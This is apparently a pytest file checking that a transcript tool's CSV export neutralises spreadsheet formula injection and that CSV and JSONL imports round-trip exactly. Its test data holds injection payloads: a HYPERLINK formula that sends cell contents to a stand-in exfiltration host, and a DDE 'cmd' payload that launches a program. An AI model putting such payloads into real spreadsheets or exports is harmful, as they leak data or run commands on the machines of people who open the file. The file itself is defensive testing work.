"""CSV exports cannot carry spreadsheet formulas: text cells that start with = + - @ tab or CR
get a leading quote (unless --no-neutralise), the CSV import takes it off again, and the JSONL
round trip stays byte-identical."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.io.conftest import fill_store
from workbench.cli import app
from workbench.domain.transcript import Turn
from workbench.io import export_transcripts, import_transcripts
from workbench.store import Annotation, NewConversation, Store

FORMULAS = [
    '=HYPERLINK("http://exfil.invalid/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
    "''+twice",
    "=",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store_path(tmp_path: Path) -> Path:
    """The io tests' store plus a run, turns, annotator and metadata holding formulas."""
    path = tmp_path / "source.db"
    with Store(path) as store:
        fill_store(store)
        run = store.create_run(name=FORMULAS[1], config={"note": FORMULAS[0]},
                               patient_model="ollama/=x", clinician="scripted/+y")
        (conv,) = store.add_conversations([NewConversation(
            run_id=run.id, patient_model="ollama/=x", clinician="scripted/+y",
            patient_prompt=FORMULAS[3], clinician_prompt=FORMULAS[2],
            patient_template_hash="@aa", clinician_template_hash="-bb",
            metadata={"note": FORMULAS[4]})])
        for index, text in enumerate(FORMULAS):
            store.append_turn(conv, Turn(index=index, role=("clinician", "patient")[index % 2],
                                         text=text))
        store.put_annotation(Annotation(conversation_id=conv, rubric="persona_fidelity",
                                        item="fidelity_note", value=FORMULAS[0],
                                        annotator="@attacker"))
    return path


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_cell_starts_a_formula(store_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    with Store(store_path) as store:
        export_transcripts(store, out, "csv")
    cells = _cells(out)
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for text in FORMULAS:
        assert "'" + text in cells, text  # shown as text, whole


def test_csv_round_trip_gives_back_the_same_rows_and_bytes(store_path, tmp_path) -> None:
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    with Store(store_path) as store:
        export_transcripts(store, first, "csv")
        before = {t.id: store.get_transcript(t.id) for t in store.list_conversations().items}
    with Store(tmp_path / "target.db") as target:
        import_transcripts(target, first)
        export_transcripts(target, second, "csv")
        after = {t.id: target.get_transcript(t.id) for t in target.list_conversations().items}
    assert first.read_bytes() == second.read_bytes()
    assert [t.text for t in after.values() for t in t.turns] == \
        [t.text for t in before.values() for t in t.turns]
    assert any(t.text == FORMULAS[0] for c in after.values() for t in c.turns)


def test_jsonl_round_trip_stays_byte_identical_and_raw(store_path, tmp_path) -> None:
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    with Store(store_path) as store:
        export_transcripts(store, first, "jsonl")
    with Store(tmp_path / "target.db") as target:
        import_transcripts(target, first)
        export_transcripts(target, second, "jsonl")
    assert first.read_bytes() == second.read_bytes()
    assert "'=HYPERLINK" not in first.read_text()  # JSONL is not for spreadsheets: kept raw


def test_the_flag_turns_it_off(store_path, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("WORKBENCH_SETTINGS", str(tmp_path / "none.json"))
    out = tmp_path / "raw.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--out", str(out),
                                      "--store", str(store_path), "--no-neutralise"])
    assert result.exit_code == 0, result.output
    assert FORMULAS[0] in _cells(out)
    safe = tmp_path / "safe.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--out", str(safe),
                                      "--store", str(store_path)])
    assert result.exit_code == 0, result.output
    assert FORMULAS[0] not in _cells(safe)
